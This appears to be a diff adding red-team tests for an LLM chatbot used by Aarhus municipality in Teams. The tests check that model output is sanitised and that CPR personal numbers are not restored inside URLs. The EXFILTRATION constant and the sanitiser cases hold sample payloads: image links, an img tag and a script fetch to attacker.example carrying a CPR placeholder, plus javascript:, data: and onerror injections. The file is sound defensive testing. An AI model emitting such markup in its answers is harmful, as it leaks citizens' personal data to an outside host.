@@ -1,0 +1,69 @@
+"""Finding 2: what a model writes cannot carry data out. Images, raw HTML and links to unknown hosts
+never reach Teams (or any door), and personal data is never restored inside a URL."""
+
+from __future__ import annotations
+
+import pytest
+
+from bot.llm.output import LinkPolicy, sanitise
+from bot.llm.pii import Redactor
+from tests.redteam.conftest import CPR, EMPLOYEE, Municipality
+
+EXFILTRATION = (
+    "Borgeren ⟦CPR-1⟧ betaler 800 kr. [1]. ![logo](http://attacker.example/p.png?q=⟦CPR-1⟧) "
+    '<img src="https://attacker.example/i.gif?d=⟦CPR-1⟧"> <script>fetch("https://attacker.example")</script> '
+    "[klik her](https://attacker.example/?d=⟦CPR-1⟧) og https://attacker.example/raw?⟦CPR-1⟧ "
+    "samt [vejledningen](https://www.aarhus.dk/borger/licens) [2]. "
+    "![ref][logo]\n\n[logo]: https://attacker.example/ref.png?⟦CPR-1⟧\n"
+)
+
+
+async def test_an_exfiltrating_answer_reaches_teams_harmless(municipality: Municipality) -> None:
+    municipality.services.settings.link_hosts = ["aarhus.dk"]
+    await municipality.specialist("Licens", "# Licens\n\nBeboerlicensen koster 800 kr. om året.", public=True)
+    municipality.external.reply = EXFILTRATION
+    final = await municipality.teams(EMPLOYEE, f"Hvad koster beboerlicensen om året for {CPR}?")
+    text = final["text"]
+    assert "attacker.example" not in text
+    assert "<img" not in text and "<script" not in text and "![" not in text
+    assert "[vejledningen](https://www.aarhus.dk/borger/licens)" in text  # an allowed link survives
+    assert "klik her" in text  # a refused link keeps its words
+    assert CPR in text  # restored where it is plain text the user reads
+    assert CPR not in "".join(p for p in text.split() if "http" in p)
+    sent = municipality.sent_to(municipality.external)
+    assert CPR not in sent and "⟦CPR-1⟧" in sent
+
+
+@pytest.mark.parametrize(
+    ("written", "shown"),
+    [
+        ("![x](https://a.example/p.png)", "x"),
+        ("![](https://www.aarhus.dk/logo.png)", ""),  # no images at all, even from allowed hosts
+        ("<b>fed</b> tekst", "fed tekst"),
+        ("<iframe src=x></iframe>rest", "rest"),
+        ("[a](javascript:alert(1))", "a"),
+        ("[a](data:text/html;base64,xx)", "a"),
+        ("[a](http://www.aarhus.dk/x)", "a"),  # http is never kept
+        ("[a](https://www.aarhus.dk.attacker.example/x)", "a"),
+        ("[a](https://user@www.aarhus.dk/x)", "a"),
+        ("[a](https://www.aarhus.dk/x)", "[a](https://www.aarhus.dk/x)"),
+        ("se https://aarhus.dk/y.", "se https://aarhus.dk/y."),
+        ("se www.attacker.example/y", "se (link fjernet)"),
+        ("<https://attacker.example>", "(link fjernet)"),
+        ("Svaret står i [1](side 2) og [3].", "Svaret står i [1] og [3]."),
+        ("<!-- skjult --> synligt", " synligt"),
+        ("ufærdigt <img src=x onerror=y", "ufærdigt "),
+    ],
+)
+def test_sanitise(written: str, shown: str) -> None:
+    assert sanitise(written, LinkPolicy(["aarhus.dk"])) == shown
+
+
+def test_placeholders_are_never_restored_inside_urls() -> None:
+    redactor = Redactor()
+    redacted = redactor.redact(f"CPR {CPR}").text
+    assert redacted == "CPR ⟦CPR-1⟧"
+    text = "Borgeren ⟦CPR-1⟧: [⟦CPR-1⟧](https://www.aarhus.dk/?q=⟦CPR-1⟧) og https://www.aarhus.dk/⟦CPR-1⟧"
+    restored = redactor.restore_outside_links(text)
+    assert restored.startswith(f"Borgeren {CPR}: [{CPR}](https://www.aarhus.dk/?q=⟦CPR-1⟧)")
+    assert restored.endswith("https://www.aarhus.dk/⟦CPR-1⟧")
